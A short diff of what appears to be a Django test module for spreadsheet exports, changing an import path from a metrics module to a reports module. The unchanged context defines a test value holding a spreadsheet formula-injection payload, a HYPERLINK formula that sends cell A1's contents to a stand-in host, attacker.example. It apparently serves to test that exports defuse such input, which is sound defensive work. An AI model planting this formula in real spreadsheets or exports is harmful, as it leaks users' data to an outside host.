@@ -11,7 +11,7 @@ from types import SimpleNamespace
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from funnelwatch.metrics import exports
+from funnelwatch.reports import exports
 
 EVIL_TEAM = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
 
